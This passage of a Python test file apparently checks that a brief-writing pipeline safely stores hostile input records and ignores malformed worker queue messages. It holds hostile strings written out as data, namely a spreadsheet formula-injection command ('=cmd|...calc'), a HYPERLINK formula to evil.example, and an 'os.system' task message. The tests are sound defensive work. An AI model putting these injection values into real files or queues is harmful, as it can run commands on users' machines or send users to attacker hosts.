    submitted = input_run.submitted
    written = [*input_run.good_ids, *input_run.valid_hostile_ids]
    counts = d.article_counts()
    lost, duplicates = lost_and_duplicated(counts, written)
    row.add(
        runs=1,
        faults=input_run.hostile_records,
        briefs=input_run.hostile_records + len(written) + 1,
        lost=lost,
        duplicates=duplicates,
        crashes=input_run.crashes,
    )

    problem_places = {(p.file, p.record) for p in input_run.problems}
    assert len(problem_places) == input_run.hostile_records, sorted(problem_places)
    assert submitted["invalid"] == len(input_run.problems), submitted
    assert submitted["enqueued"] == len(written) + 1, submitted
    rows = d.brief_rows()
    assert set(rows) == {*written, input_run.unknown_style_id}, sorted(rows)
    assert rows[input_run.unknown_style_id]["status"] == "failed"
    assert "nosuchstyle" in (rows[input_run.unknown_style_id]["last_error"] or "")
    payloads = {r["id"]: r["payload"] for r in d.sql("SELECT id, payload FROM briefs")}
    stored = {k: (json.loads(v) if isinstance(v, str) else v) for k, v in payloads.items()}
    assert stored["vh-template"]["title"] == VALID_HOSTILE["vh-template"]["title"]
    assert stored["vh-formula"]["title"] == "=cmd|' /C calc'!A0"
    assert stored["vh-csv-formula"]["title"] == '=HYPERLINK("http://evil.example")'
    assert stored["vh-100k-words"]["target_words"] == MAX_TARGET_WORDS
    assert (lost, duplicates, input_run.crashes) == (0, 0, 0), d.logs()


def test_a_worker_ignores_malformed_task_messages(input_run: InputRun, ledger: Ledger) -> None:
    row = ledger.row(
        AREA,
        "malformed task messages",
        injection="hand-made JSON messages on the worker's queue: brief ids that are paths, 10,000 characters, "
        "null, a mapping, a list; no or extra arguments; an unregistered task `os.system`; a body that is not JSON",
        checked="each ignored or discarded with a log line; the marker of `os.system` never appears; worker and "
        "pool alive; no brief, article or job created",
    )
    d = input_run.deployment
    before = len(d.brief_rows())
    row.add(runs=1, faults=input_run.messages, briefs=0, lost=0, duplicates=0, crashes=input_run.crashes)
    assert not input_run.marker.exists()
    log = input_run.log
    assert log.count("ignored a message with a malformed brief id") >= 5, log[-5000:]
    assert "Received unregistered task of type 'os.system'" in log, log[-5000:]
    assert len(d.brief_rows()) == before
    assert input_run.crashes == 0, d.logs()
